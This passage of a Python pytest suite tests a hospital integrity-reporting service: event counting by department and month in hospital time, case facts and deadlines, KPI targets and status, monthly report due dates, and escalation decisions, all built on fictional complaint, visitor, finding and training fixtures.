"""Reporting's pure modules: what each event and case counts as (facts), KPI status against the
targets of 004 §五 (kpi), the monthly report of 004 §七(三) (monthly), R-MONTHLY-STUDY (study),
the registers built from escalation's decisions (registers), CSV/XLSX downloads (exports), who
reads what (access) and the dashboard's chart geometry (dashboard); and its application layer
on the store's in-memory twin: records ingested a batch at a time (ingest), and the reports
read from what was stored (reports). No broker, no database.

Expected values are derived from the inputs each test builds: the counts, cases, decisions,
sessions and confirmations of one month, two departments and the shipped department
catalogue, KPI targets and rule book.
"""

import asyncio
import csv
import io
import itertools
import re
import uuid
import zipfile
from collections import Counter
from collections.abc import Mapping, Sequence
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal
from typing import Any, cast
from urllib.parse import unquote

import openpyxl
import pytest
from fastapi import HTTPException
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.worksheet.worksheet import Worksheet
from pymongo.errors import AutoReconnect

from schemas.base import HOSPITAL_TIME_ZONE, Event, derive_event_id
from schemas.case import CaseChange, CaseKind, CaseState, CaseUpdated, derive_case_id
from schemas.case_action import CaseActionReceived
from schemas.catalogue import BY_TYPE
from schemas.complaint import ComplaintCategory, ComplaintReceived
from schemas.dead_letter import DeadLetter, Problem
from schemas.decision import Decision, DecisionKind, EscalationTarget, Measure, SubjectKind
from schemas.finding import InvestigationFindingReceived
from schemas.kpi import KpiMetric, KpiObservationReceived
from schemas.training import TrainingHeldReceived, TrainingKind
from services.common.consuming import Received
from services.common.datafile import DataFileError
from services.common.departments import DepartmentCatalogue
from services.common.documents import MemoryDocuments, Records
from services.common.roles import Role
from services.escalation.conduct import ConductFile, decide, reconcile
from services.escalation.rulebook import RuleBook
from services.escalation.settings import EscalationSettings
from services.reporting.access import Viewer
from services.reporting.api import MONTHLY_COLUMNS, monthly_rows, templates
from services.reporting.counting import CountDocument, Tally, count_document_id
from services.reporting.dashboard import BAR_GAP, CHART_HEIGHT, CHART_WIDTH, bars
from services.reporting.exports import ExportFormat, table
from services.reporting.facts import (
    HOSPITAL,
    CaseFact,
    CountKey,
    case_fact,
    count_key,
    report_month,
)
from services.reporting.ingest import DEAD_LETTER, Ingest
from services.reporting.kpi import (
    TARGETS_FILE,
    Comparison,
    KpiTarget,
    KpiTargets,
    Observation,
    Status,
    Unit,
    kpi_status,
    rate,
)
from services.reporting.monthly import (
    Confirmation,
    MonthData,
    MonthlyReport,
    month_bounds,
    monthly_report,
    report_due,
)
from services.reporting.presentation import Percent
from services.reporting.registers import (
    escalations,
    notices,
    promotion_bars,
    rule_counts,
    standing,
    vendor_cutoffs,
)
from services.reporting.reports import Reports, last_months
from services.reporting.settings import ReportingSettings
from services.reporting.store import HeldSession, ReportStore
from services.reporting.study import STUDY_FILE, StudyRule, months_without_study
from services.router.domain import Opening, link, record_finding, take_action
from tests.factories import ROUTING, complaint_event, routed_case

SETTINGS = ReportingSettings()
CATALOGUE = DepartmentCatalogue.from_file(SETTINGS.departments)
TARGETS = KpiTargets.from_file(SETTINGS.kpi_targets)
STUDY = StudyRule.from_file(SETTINGS.study_rule)
BOOK = RuleBook.from_file(EscalationSettings().rules)
"""Escalation's rule book, which its decisions name (``decide``)."""
TARGETS_TEXT = TARGETS_FILE.read_text(encoding="utf-8")

DEPT = "general_psychiatry"
OTHER = "pharmacy"
MONTH = "2026-11"
DECIDED = datetime(2026, 12, 1, 2, 0, tzinfo=UTC)
"""When escalation made the decisions, unless a test is about correcting them."""

H = HOSPITAL_TIME_ZONE


def _h(
    year: int, month: int, day: int, hour: int = 0, minute: int = 0, second: int = 0
) -> datetime:
    """A moment in hospital time."""
    return datetime(year, month, day, hour, minute, second, tzinfo=H)


def _case_id(n: int) -> str:
    return derive_case_id(derive_event_id("portal", f"C-{n}"))


# --- events of every type -------------------------------------------------------------------

CASE = _case_id(1)

_FACTS: dict[str, dict[str, Any]] = {
    "complaint": {
        "channel": "hotline",
        "category": "red_envelope",
        "accused_staff_id": "S1105",
        "accused_department": DEPT,
        "description": "患者家属反映医生收受红包。",
    },
    "visitor_log": {
        "rep_id": "REP-9",
        "rep_name": "李四",
        "company_code": "YX-PHARMA-017",
        "company_name": "云南某医药有限公司",
        "department": OTHER,
        "place_code": "B2-101",
        "place_kind": "reception_room",
        "started_at": "2026-11-12T10:00:00+08:00",
    },
    "satisfaction": {"touchpoint": "registration", "department": "outpatient", "score": 2},
    "investigation_finding": {
        "case_id": CASE,
        "substantiated": True,
        "confirmed_categories": ["kickback", "red_envelope"],
        "staff_ids": ["S1105"],
        "summary": "查实收受回扣及红包。",
    },
    "promotion_application": {"staff_id": "S1105", "application_id": "HR-2026-17"},
    "red_envelope_surrender": {
        "staff_id": "S1105",
        "amount_cny": "500.00",
        "received_on": "2026-11-10",
        "surrendered_on": "2026-11-11",
    },
    "prescription_ranking": {
        "staff_id": "S1105",
        "department": "geriatric_psychiatry",
        "item_code": "D-001",
        "item_name": "某注射液",
        "item_kind": "drug",
        "month": "2026-10",
        "rank": 1,
        "justified": False,
    },
    "training_held": {
        "department": "child_psychiatry",
        "held_on": "2026-11-12",
        "topic": "九项准则专题学习",
        "kind": "study",
        "attendee_ids": ["S1301", "S1302"],
        "headcount": 12,
    },
    "kpi_observation": {
        "metric": "inpatient_wait_days",
        "scope": "addiction_medicine",
        "period": "2026-11",
        "value": "6.5",
    },
    "rectification_status": {
        "department": "laboratory",
        "item": "检查结果互认",
        "status": "perfunctory",
    },
    "case_action": {"case_id": CASE, "action": "close", "actor_staff_id": "S0101"},
}


def _event(
    event_type: str,
    *,
    occurred_at: str | datetime = "2026-11-12T10:00:00+08:00",
    received_at: str | datetime | None = None,
    ref: str = "",
    **facts: Any,
) -> Event:
    """An accepted event of ``event_type`` with the facts above, changed by ``facts``; received
    when it happened unless ``received_at`` says otherwise. Events alike but for ``ref`` are
    distinct events."""
    seed = f"{occurred_at}{received_at}{sorted(facts.items())}{ref}"
    ref = f"{event_type}-{uuid.uuid5(uuid.NAMESPACE_URL, seed)}"
    return BY_TYPE[event_type].event.model_validate(
        {
            **_FACTS[event_type],
            **facts,
            "schema_version": 1,
            "event_id": derive_event_id("test", ref),
            "source_system": "test",
            "source_ref": ref,
            "occurred_at": occurred_at,
            "received_at": received_at or occurred_at,
        }
    )


def _session(
    department: str,
    held_on: date,
    attendees: Sequence[str],
    *,
    headcount: int = 10,
    kind: TrainingKind = TrainingKind.STUDY,
) -> TrainingHeldReceived:
    event = _event(
        "training_held",
        occurred_at=datetime.combine(held_on, time(9, 0), H),
        department=department,
        held_on=held_on,
        attendee_ids=list(attendees),
        headcount=headcount,
        kind=kind,
    )
    assert isinstance(event, TrainingHeldReceived)
    return event


# --- facts: count_key -----------------------------------------------------------------------


def _key(event: Event) -> CountKey:
    """Where ``event`` counts, with the shipped department catalogue."""
    return count_key(event, CATALOGUE)


def test_every_event_type_has_a_sample() -> None:
    assert set(_FACTS) == set(BY_TYPE)


@pytest.mark.parametrize(
    ("event_type", "department"),
    [
        ("complaint", DEPT),  # the accused's department
        ("visitor_log", OTHER),  # the visited
        ("satisfaction", "outpatient"),  # the rated
        ("prescription_ranking", "geriatric_psychiatry"),
        ("training_held", "child_psychiatry"),
        ("rectification_status", "laboratory"),
        ("kpi_observation", "addiction_medicine"),  # the scope
        ("investigation_finding", None),
        ("promotion_application", None),
        ("red_envelope_surrender", None),
        ("case_action", None),
    ],
)
def test_count_key_attributes_each_event_type_to_the_department_it_is_about(
    event_type: str, department: str | None
) -> None:
    key = _key(_event(event_type))

    assert key.event_type == event_type
    assert key.department == department
    assert key.month == "2026-11"


def test_count_key_of_a_hospital_wide_kpi_observation_has_no_department() -> None:
    assert _key(_event("kpi_observation", scope=HOSPITAL)).department is None


def test_count_key_of_a_complaint_without_accused_department_has_none() -> None:
    assert _key(_event("complaint", accused_department=None)).department is None


@pytest.mark.parametrize("category", list(ComplaintCategory))
def test_count_key_carries_the_complaint_category(category: ComplaintCategory) -> None:
    assert _key(_event("complaint", category=category)).category is category


def test_count_key_of_a_finding_carries_its_first_confirmed_category() -> None:
    finding = _event("investigation_finding", confirmed_categories=["gambling", "kickback"])
    assert _key(finding).category is ComplaintCategory.GAMBLING

    unsubstantiated = _event("investigation_finding", substantiated=False, confirmed_categories=[])
    assert _key(unsubstantiated).category is None


@pytest.mark.parametrize(
    "event_type",
    sorted(set(_FACTS) - {"complaint", "investigation_finding"}),
)
def test_count_key_of_other_event_types_has_no_category(event_type: str) -> None:
    assert _key(_event(event_type)).category is None


@pytest.mark.parametrize(
    ("occurred_at", "month"),
    [
        ("2026-11-30T16:30:00Z", "2026-12"),  # 00:30 on 1 December in Kunming
        ("2026-11-30T15:59:59Z", "2026-11"),  # 23:59:59 on 30 November
        ("2026-12-31T16:00:00Z", "2027-01"),
        (datetime(2026, 12, 1, 0, 0), "2026-12"),  # a datetime without a zone: hospital time
        (datetime(2026, 11, 30, 23, 59, 59), "2026-11"),
    ],
)
def test_count_key_month_is_in_hospital_time(occurred_at: str | datetime, month: str) -> None:
    assert _key(_event("complaint", occurred_at=occurred_at)).month == month


@given(
    moment=st.datetimes(
        min_value=datetime(2000, 1, 1), max_value=datetime(2099, 12, 31), timezones=st.just(UTC)
    )
)
def test_count_key_month_is_utc_plus_eight(moment: datetime) -> None:
    # China has kept UTC+8 without daylight saving since 1991.
    expected = (moment + timedelta(hours=8)).strftime("%Y-%m")
    assert _key(_event("satisfaction", occurred_at=moment)).month == expected


def test_count_key_month_is_when_the_hospital_received_the_event() -> None:
    # 受理: the report counts what the hospital received in the month, as it counts cases.
    late_evening, next_morning = _h(2026, 11, 30, 22), _h(2026, 12, 1, 9)
    for event_type in ("complaint", "satisfaction", "investigation_finding"):
        event = _event(event_type, occurred_at=late_evening, received_at=next_morning)
        assert _key(event).month == "2026-12", event_type


def test_count_key_of_a_complaint_against_the_head_of_its_department_names_no_department() -> None:
    head = CATALOGUE.departments["finance"].head_staff_id
    against_head = _event(
        "complaint", category="procurement", accused_staff_id=head, accused_department="finance"
    )

    key = _key(against_head)

    assert key.department is None
    assert key.category is ComplaintCategory.PROCUREMENT
    assert key.complaint_against_head == str(against_head.event_id)
    # The same person named in another department's complaint: that department's head reads it.
    elsewhere = _key(_event("complaint", accused_staff_id=head, accused_department=DEPT))
    assert (elsewhere.department, elsewhere.complaint_against_head) == (DEPT, None)
    assert _key(_event("complaint")).complaint_against_head is None


# --- facts: case_fact -----------------------------------------------------------------------

OPENED = datetime(2026, 11, 20, 2, 0, tzinfo=UTC)
"""When the factory's complaint was received: 10:00 on 20 November in hospital time."""


def _complaint_case(**overrides: Any) -> CaseUpdated:
    return routed_case(complaint_event(received_at=OPENED, **overrides))


def _finding(case: CaseUpdated, at: datetime, ref: str) -> InvestigationFindingReceived:
    event = _event(
        "investigation_finding",
        occurred_at=at,
        case_id=case.case_id,
        summary=f"结论 {ref}",
    )
    assert isinstance(event, InvestigationFindingReceived)
    return event


def _close(case: CaseUpdated, at: datetime) -> CaseUpdated:
    action = _event("case_action", occurred_at=at, case_id=case.case_id, reason="结案")
    assert isinstance(action, CaseActionReceived)
    return take_action(case, action, ROUTING, now=at)


def test_case_fact_of_a_fresh_case() -> None:
    case = _complaint_case()
    fact = case_fact(case)

    assert fact.case_id == case.case_id
    assert fact.revision == case.revision == 1
    assert fact.kind is CaseKind.COMPLAINT
    assert fact.category is case.category
    assert fact.month == "2026-11"
    assert fact.department == case.responsible_department.code
    assert fact.department_zh == case.responsible_department.name_zh
    assert fact.department_en == case.responsible_department.name_en
    assert fact.concerned_department == case.concerned_department
    assert fact.accused_staff_id == case.accused_staff_id
    assert fact.state is CaseState.ASSIGNED
    assert fact.opened_at == case.opened_at
    assert fact.deadline == case.deadline
    assert fact.events == 1
    assert fact.finding_at is None
    assert fact.closed_at is None
    assert not fact.investigated
    assert not fact.on_time


def test_case_fact_month_is_the_hospital_month_of_opening() -> None:
    case = _complaint_case()
    late_evening = case.model_copy(update={"opened_at": datetime(2026, 11, 30, 16, 30, tzinfo=UTC)})
    assert case_fact(late_evening).month == "2026-12"


def test_case_fact_finding_at_is_the_first_finding_and_closed_at_the_closing() -> None:
    case = _complaint_case()
    first = case.opened_at + timedelta(days=3)
    revised = case.opened_at + timedelta(days=5)
    closed = case.opened_at + timedelta(days=6)
    case = record_finding(case, _finding(case, first, "first"), now=first)
    case = record_finding(case, _finding(case, revised, "revised"), now=revised)
    case = _close(case, closed)
    assert [e.change for e in case.history].count(CaseChange.FINDING_RECORDED) == 2

    fact = case_fact(case)

    assert fact.finding_at == first
    assert fact.closed_at == closed
    assert fact.state is CaseState.CLOSED
    assert fact.revision == case.revision
    assert fact.investigated


def test_case_fact_counts_the_source_events_of_linked_complaints() -> None:
    case = _complaint_case()
    for n in range(2):
        other = complaint_event(received_at=OPENED + timedelta(days=n + 1), source_ref=f"REF-{n}")
        case = link(case, Opening.of_complaint(other), now=other.received_at)

    assert case_fact(case).events == 3 == len(case.source_event_ids)


@pytest.mark.parametrize(
    ("after_deadline", "on_time"),
    [(timedelta(days=-1), True), (timedelta(0), True), (timedelta(seconds=1), False)],
)
def test_case_fact_on_time_means_a_finding_by_the_deadline(
    after_deadline: timedelta, on_time: bool
) -> None:
    case = _complaint_case()
    at = case.deadline + after_deadline
    fact = case_fact(record_finding(case, _finding(case, at, "x"), now=at))

    assert fact.investigated
    assert fact.on_time is on_time


def test_case_fact_overdue_boundaries() -> None:
    case = _complaint_case()
    fact = case_fact(case)

    assert not fact.overdue(case.deadline - timedelta(days=1))
    assert not fact.overdue(case.deadline)
    assert fact.overdue(case.deadline + timedelta(microseconds=1))
    assert fact.overdue(case.deadline + timedelta(days=30))


def test_case_fact_with_a_finding_is_not_overdue_after_it() -> None:
    case = _complaint_case()
    late = case.deadline + timedelta(days=2)
    fact = case_fact(record_finding(case, _finding(case, late, "late"), now=late))

    assert not fact.on_time
    assert not fact.overdue(late)
    assert not fact.overdue(late + timedelta(days=10))
    # Before its (late) finding the case was overdue: a past month's report says so.
    assert fact.overdue(late - timedelta(days=1))


def _action(case: CaseUpdated, at: datetime, **facts: Any) -> CaseActionReceived:
    action = _event("case_action", occurred_at=at, case_id=case.case_id, **facts)
    assert isinstance(action, CaseActionReceived)
    return action


def test_case_fact_keeps_every_change_and_every_refused_action_with_its_reason() -> None:
    case = _complaint_case()
    day = case.opened_at + timedelta(days=1)
    case = take_action(case, _action(case, day, action="close", reason="结案"), ROUTING, now=day)
    to_nowhere = _action(case, day, action="reassign", to_department="nowhere", reason="改派")
    case = take_action(case, to_nowhere, ROUTING, now=day)

    history = case_fact(case).history

    assert history == case.history
    refused = [entry for entry in history if entry.change is CaseChange.REFUSED]
    assert [entry.note for entry in refused] == [
        "结案被拒绝：尚无调查结论",
        "改派被拒绝：未知科室 nowhere",
    ]
    assert all(entry.by == "S0101" for entry in refused)


# --- kpi: targets ---------------------------------------------------------------------------

# 004 §五 (and its task list), as the seed words them.
SEED_TARGETS = {
    KpiMetric.COMPLAINT_INVESTIGATION_RATE: (Comparison.AT_LEAST, Decimal("1"), Unit.RATIO),
    KpiMetric.EDUCATION_COVERAGE: (Comparison.AT_LEAST, Decimal("1"), Unit.RATIO),
    KpiMetric.CLINICAL_HEAD_WARNING_EDUCATION: (Comparison.AT_LEAST, Decimal("1"), Unit.RATIO),
    KpiMetric.EXPERT_SLOTS_GROWTH: (Comparison.AT_LEAST, Decimal("0.05"), Unit.GROWTH),
    KpiMetric.DAY_SURGERY_GROWTH: (Comparison.AT_LEAST, Decimal("0.05"), Unit.GROWTH),
    KpiMetric.TEST_MUTUAL_RECOGNITION: (Comparison.AT_LEAST, Decimal("0.8"), Unit.RATIO),
    KpiMetric.CATALOGUE_DRUG_USE: (Comparison.AT_LEAST, Decimal("0.8"), Unit.RATIO),
    KpiMetric.INPATIENT_WAIT_DAYS: (Comparison.AT_MOST, Decimal("7"), Unit.DAYS),
    KpiMetric.ETHICS_IN_PROMOTION_RULES: (Comparison.AT_LEAST, Decimal("1"), Unit.RATIO),
}


def test_targets_file_loads_with_one_target_per_metric() -> None:
    metrics = [target.metric for target in TARGETS.target]
    assert sorted(metrics) == sorted(KpiMetric)
    assert TARGETS.version
    assert all(target.basis.startswith("004") for target in TARGETS.target)


@pytest.mark.parametrize("metric", list(KpiMetric))
def test_targets_are_those_of_the_seed(metric: KpiMetric) -> None:
    (target,) = [t for t in TARGETS.target if t.metric is metric]
    assert (target.comparison, target.value, target.unit) == SEED_TARGETS[metric]


def _line(text: str, needle: str, occurrence: int = 1) -> int:
    """The line number of the ``occurrence``-th line containing ``needle``."""
    found = [n for n, line in enumerate(text.splitlines(), start=1) if needle in line]
    return found[occurrence - 1]


def _refusal(text: str) -> str:
    with pytest.raises(DataFileError) as refused:
        KpiTargets.from_toml(text, source="kpi_targets.toml")
    return str(refused.value)


def test_targets_file_with_a_metric_listed_twice_is_refused_at_its_line() -> None:
    text = TARGETS_TEXT.replace(
        'metric = "education_coverage"', 'metric = "complaint_investigation_rate"'
    )
    line = _line(text, 'metric = "complaint_investigation_rate"', occurrence=2)

    message = _refusal(text)

    assert f"kpi_targets.toml:{line} target[2].metric" in message
    assert "complaint_investigation_rate is listed again" in message


def test_targets_file_missing_a_metric_is_refused_naming_it() -> None:
    blocks = TARGETS_TEXT.split("[[target]]")
    text = "[[target]]".join(b for b in blocks if "inpatient_wait_days" not in b)

    message = _refusal(text)

    assert f"kpi_targets.toml:{_line(text, '[[target]]')} target: " in message
    assert "no target for inpatient_wait_days" in message


def test_targets_file_with_an_unknown_comparison_is_refused_at_its_line() -> None:
    text = TARGETS_TEXT.replace('comparison = "at_most"', 'comparison = "below"')
    line = _line(text, 'comparison = "below"')

    message = _refusal(text)

    assert re.search(rf"kpi_targets\.toml:{line} target\[\d+\]\.comparison: ", message)


def test_targets_file_with_a_target_that_is_not_a_number_is_refused_at_its_line() -> None:
    text = TARGETS_TEXT.replace('value = "7"', 'value = "a week"')
    line = _line(text, 'value = "a week"')

    assert re.search(rf"kpi_targets\.toml:{line} target\[\d+\]\.value: ", _refusal(text))


# --- kpi: status ----------------------------------------------------------------------------


def _status(metric: KpiMetric, value: str | Decimal) -> Status:
    (status,) = [
        s
        for s in kpi_status(
            TARGETS,
            [Observation(metric=metric, scope=DEPT, period=MONTH, value=Decimal(value))],
            scope=DEPT,
            period=MONTH,
            computed={},
        )
        if s.metric is metric
    ]
    return status.status


_STEP = {Unit.RATIO: Decimal("0.0001"), Unit.GROWTH: Decimal("0.0001"), Unit.DAYS: Decimal("0.01")}


@pytest.mark.parametrize("target", TARGETS.target, ids=lambda target: str(target.metric))
def test_kpi_exactly_at_the_target_is_met_and_just_short_of_it_is_not(target: KpiTarget) -> None:
    step = _STEP[target.unit]
    worse = target.value - step if target.comparison is Comparison.AT_LEAST else target.value + step

    assert _status(target.metric, target.value) is Status.MET
    assert _status(target.metric, worse) is Status.SHORTFALL


@pytest.mark.parametrize(
    ("value", "status"),
    [
        ("0", Status.MET),
        ("6.99", Status.MET),
        ("7", Status.MET),
        ("7.00", Status.MET),
        ("7.01", Status.SHORTFALL),
        ("30", Status.SHORTFALL),
    ],
)
def test_inpatient_wait_of_at_most_a_week(value: str, status: Status) -> None:
    assert _status(KpiMetric.INPATIENT_WAIT_DAYS, value) is status


@pytest.mark.parametrize(
    ("value", "status"),
    [
        ("0.7999", Status.SHORTFALL),
        ("0.80", Status.MET),
        ("1", Status.MET),
        ("1.0001", Status.OUT_OF_SCALE),
        ("85", Status.OUT_OF_SCALE),  # sent as a percentage
        ("-0.01", Status.OUT_OF_SCALE),
    ],
)
def test_test_mutual_recognition_of_at_least_80_percent(value: str, status: Status) -> None:
    assert _status(KpiMetric.TEST_MUTUAL_RECOGNITION, value) is status


def test_a_growth_above_one_is_not_out_of_scale() -> None:
    assert _status(KpiMetric.DAY_SURGERY_GROWTH, "1.5") is Status.MET
    assert _status(KpiMetric.EXPERT_SLOTS_GROWTH, "-0.2") is Status.SHORTFALL


@given(value=st.decimals(min_value=-2, max_value=3, places=4))
def test_ratio_status_over_the_whole_range(value: Decimal) -> None:
    if not Decimal(0) <= value <= Decimal(1):
        expected = Status.OUT_OF_SCALE
    elif value >= Decimal("0.8"):
        expected = Status.MET
    else:
        expected = Status.SHORTFALL
    assert _status(KpiMetric.CATALOGUE_DRUG_USE, value) is expected


def test_kpi_status_prefers_the_observation_over_the_computed_value() -> None:
    metric = KpiMetric.COMPLAINT_INVESTIGATION_RATE
    observations = [
        Observation(metric=metric, scope=DEPT, period=MONTH, value=Decimal("1")),
        Observation(metric=metric, scope=OTHER, period=MONTH, value=Decimal("0.1")),
        Observation(metric=metric, scope=DEPT, period="2026-10", value=Decimal("0.2")),
    ]
    statuses = {
        s.metric: s
        for s in kpi_status(
            TARGETS,
            observations,
            scope=DEPT,
            period=MONTH,
            computed={metric: Decimal("0.5"), KpiMetric.EDUCATION_COVERAGE: Decimal("0.9")},
        )
    }

    assert (statuses[metric].value, statuses[metric].source) == (Decimal("1"), "observed")
    assert statuses[metric].status is Status.MET
    coverage = statuses[KpiMetric.EDUCATION_COVERAGE]
    assert (coverage.value, coverage.source) == (Decimal("0.9"), "computed")
    assert coverage.status is Status.SHORTFALL
    assert coverage.status_zh == "未达标"


def test_kpi_status_uses_the_computed_value_when_none_is_observed_for_scope_and_period() -> None:
    metric = KpiMetric.COMPLAINT_INVESTIGATION_RATE
    elsewhere = [
        Observation(metric=metric, scope=OTHER, period=MONTH, value=Decimal("0.1")),
        Observation(metric=metric, scope=DEPT, period="2026", value=Decimal("0.2")),
    ]
    (status,) = [
        s
        for s in kpi_status(
            TARGETS, elsewhere, scope=DEPT, period=MONTH, computed={metric: Decimal("1")}
        )
        if s.metric is metric
    ]
    assert (status.value, status.source, status.status) == (Decimal("1"), "computed", Status.MET)


def test_kpi_status_without_data_lists_every_target_as_no_data() -> None:
    statuses = kpi_status(TARGETS, [], scope=HOSPITAL, period="2026", computed={})

    assert [s.metric for s in statuses] == [t.metric for t in TARGETS.target]
    for status, target in zip(statuses, TARGETS.target, strict=True):
        assert status.status is Status.NO_DATA
        assert status.status_zh == "无数据"
        assert (status.value, status.source) == (None, None)
        assert (status.scope, status.period) == (HOSPITAL, "2026")
        assert (status.target, status.comparison, status.unit) == (
            target.value,
            target.comparison,
            target.unit,
        )
        assert status.basis == target.basis
        assert status.label_zh == target.metric.label_zh
        assert status.targets_version == TARGETS.version


def test_rate() -> None:
    assert rate(0, 0) is None
    assert rate(3, 0) is None
    assert rate(0, 5) == Decimal("0")
    assert rate(5, 5) == Decimal("1")
    assert rate(2, 3) == Decimal("0.6667")
    assert rate(1, 3) == Decimal("0.3333")


@given(whole=st.integers(min_value=1, max_value=10**6), data=st.data())
def test_rate_is_the_fraction_to_four_places(whole: int, data: st.DataObject) -> None:
    part = data.draw(st.integers(min_value=0, max_value=whole))
    value = rate(part, whole)

    assert value is not None
    assert value.as_tuple().exponent == -4
    assert abs(value * whole - part) <= Decimal("0.00005") * whole
    assert Decimal(0) <= value <= Decimal(1)


# --- monthly: due date and bounds -----------------------------------------------------------


@pytest.mark.parametrize(
    ("month", "last_due_moment"),
    [
        ("2026-11", _h(2026, 12, 20, 23, 59, 59)),
        ("2026-12", _h(2027, 1, 20, 23, 59, 59)),
        ("2027-01", _h(2027, 2, 20, 23, 59, 59)),
        ("2028-01", _h(2028, 2, 20, 23, 59, 59)),
    ],
)
def test_report_is_due_by_the_end_of_the_20th_of_the_next_month(
    month: str, last_due_moment: datetime
) -> None:
    due = report_due(month)
    assert last_due_moment < due <= last_due_moment + timedelta(seconds=1)


@given(
    year=st.integers(min_value=1992, max_value=2200), month=st.integers(min_value=1, max_value=12)
)
def test_month_bounds_and_due_date(year: int, month: int) -> None:
    name = f"{year:04d}-{month:02d}"
    start, end = month_bounds(name)
    following = date(year + month // 12, month % 12 + 1, 1)

    assert start == datetime(year, month, 1, tzinfo=H)
    assert end == datetime.combine(following, time.min, H)
    assert start.utcoffset() == end.utcoffset() == timedelta(hours=8)
    due = report_due(name)
    assert due == datetime.combine(following.replace(day=21), time.min, H)


# --- monthly: the report --------------------------------------------------------------------

NOV_START, NOV_END = _h(2026, 11, 1), _h(2026, 12, 1)
LATER = _h(2026, 12, 25)
"""A 'now' after the November report was due."""


def _fact(
    n: int,
    *,
    opened: datetime,
    deadline: datetime,
    finding: datetime | None = None,
    closed: datetime | None = None,
    department: str = DEPT,
    kind: CaseKind = CaseKind.COMPLAINT,
) -> CaseFact:
    entry = CATALOGUE.departments[department]
    state = (
        CaseState.CLOSED
        if closed
        else CaseState.FINDING_RECORDED
        if finding
        else CaseState.ASSIGNED
    )
    return CaseFact(
        case_id=_case_id(n),
        revision=1,
        month=opened.strftime("%Y-%m"),
        kind=kind,
        category=ComplaintCategory.KICKBACK if kind is CaseKind.COMPLAINT else None,
        department=department,
        department_zh=entry.name_zh,
        department_en=entry.name_en,
        concerned_department=None,
        accused_staff_id=None,
        state=state,
        events=1,
        opened_at=opened,
        deadline=deadline,
        finding_at=finding,
        closed_at=closed,
    )


# Cases of DEPT (and one of OTHER); the numbers are their case ids.
ON_TIME_CLOSED = _fact(
    1,
    opened=_h(2026, 11, 5),
    deadline=_h(2026, 11, 20),
    finding=_h(2026, 11, 15),
    closed=_h(2026, 11, 25),
)
LATE_FINDING = _fact(
    2, opened=_h(2026, 11, 10), deadline=_h(2026, 11, 25), finding=_h(2026, 11, 28)
)
NOT_DUE_YET = _fact(3, opened=_h(2026, 11, 20), deadline=_h(2026, 12, 5))
OVERDUE_RECTIFICATION = _fact(
    4, opened=_h(2026, 11, 2), deadline=_h(2026, 11, 10, 9), kind=CaseKind.RECTIFICATION
)
OVERDUE_FROM_OCTOBER = _fact(5, opened=_h(2026, 10, 1), deadline=_h(2026, 10, 16))
FOUND_AFTER_THE_MONTH = _fact(
    6, opened=_h(2026, 10, 20), deadline=_h(2026, 11, 4), finding=_h(2026, 12, 3)
)
OTHER_OVERDUE = _fact(7, opened=_h(2026, 11, 3), deadline=_h(2026, 11, 18), department=OTHER)
OTHER_INVESTIGATED = _fact(
    8, opened=_h(2026, 11, 6), deadline=_h(2026, 11, 21), finding=_h(2026, 11, 7), department=OTHER
)
DECEMBER = _fact(9, opened=_h(2026, 12, 2), deadline=_h(2026, 12, 17))
CASES = [
    ON_TIME_CLOSED,
    LATE_FINDING,
    NOT_DUE_YET,
    OVERDUE_RECTIFICATION,
    OVERDUE_FROM_OCTOBER,
    FOUND_AFTER_THE_MONTH,
    OTHER_OVERDUE,
    OTHER_INVESTIGATED,
    DECEMBER,
]

COUNTS: list[tuple[CountKey, int]] = [
    (
        CountKey(
            month=MONTH,
            department=DEPT,
            event_type="complaint",
            category=ComplaintCategory.KICKBACK,
        ),
        3,
    ),
    (
        CountKey(
            month=MONTH,
            department=DEPT,
            event_type="complaint",
            category=ComplaintCategory.RED_ENVELOPE,
        ),
        1,
    ),
    (CountKey(month=MONTH, department=DEPT, event_type="satisfaction"), 5),
    (CountKey(month=MONTH, department=DEPT, event_type="visitor_log"), 1),
    (
        CountKey(
            month=MONTH,
            department=OTHER,
            event_type="complaint",
            category=ComplaintCategory.KICKBACK,
        ),
        7,
    ),
    (CountKey(month=MONTH, department=OTHER, event_type="rectification_status"), 2),
    (
        CountKey(
            month="2026-10",
            department=DEPT,
            event_type="complaint",
            category=ComplaintCategory.GAMBLING,
        ),
        11,
    ),
    (CountKey(month="2026-12", department=DEPT, event_type="satisfaction"), 13),
    (CountKey(month=MONTH, department=None, event_type="promotion_application"), 2),
    (
        CountKey(
            month=MONTH,
            department=None,
            event_type="investigation_finding",
            category=ComplaintCategory.GAMBLING,
        ),
        4,
    ),
]


def _decision(
    kind: DecisionKind,
    *,
    key: str,
    as_of: datetime,
    case_id: str | None = None,
    rule_id: str = "R-TEST",
    subject_kind: SubjectKind = SubjectKind.STAFF,
    subject_id: str = "S1105",
    decided_at: datetime = DECIDED,
    facts: dict[str, object] | None = None,
    explanation: str = "测试决定",
    **fields: Any,
) -> Decision:
    return decide(
        BOOK,
        rule_id=rule_id,
        key=key,
        subject=ConductFile(subject_kind=subject_kind, subject_id=subject_id),
        as_of=as_of,
        sources=[],
        facts=facts or {},
        explanation_zh=explanation,
        explanation_en="a test decision",
        now=decided_at,
        kind=kind,
        case_id=case_id,
        **fields,
    )


def _withdrawn(decision: Decision, *, at: datetime) -> Decision:
    """The decision as escalation withdraws it when its facts no longer hold."""
    (withdrawal,) = reconcile({decision.key: decision}, [], now=at)
    assert withdrawal.withdrawn
    return withdrawal


def _corrected(decision: Decision, *, at: datetime, **changes: Any) -> Decision:
    """The decision as escalation corrects it when a late event changes it."""
    fresh = decision.model_copy(update={**changes, "decided_at": at})
    (correction,) = reconcile({decision.key: decision}, [fresh], now=at)
    assert correction.corrects == decision.event_id
    return correction


MEASURE = _decision(
    DecisionKind.MEASURE,
    key="m1",
    as_of=_h(2026, 11, 16),
    case_id=ON_TIME_CLOSED.case_id,
    measure=Measure.INTERVIEW,
)
ESCALATION_ON_AN_OCTOBER_CASE = _decision(
    DecisionKind.ESCALATION,
    key="e1",
    as_of=NOV_START,
    case_id=OVERDUE_FROM_OCTOBER.case_id,
    escalate_to=EscalationTarget.DEPARTMENT_HEAD,
)
WITHDRAWN_MEASURE = _decision(
    DecisionKind.MEASURE, key="m2", as_of=_h(2026, 11, 17), case_id=LATE_FINDING.case_id
)
CORRECTED_MEASURE = _decision(
    DecisionKind.MEASURE, key="m3", as_of=_h(2026, 11, 18), case_id=LATE_FINDING.case_id
)
DECISIONS = [
    MEASURE,
    ESCALATION_ON_AN_OCTOBER_CASE,
    WITHDRAWN_MEASURE,
    _withdrawn(WITHDRAWN_MEASURE, at=DECIDED + timedelta(days=1)),
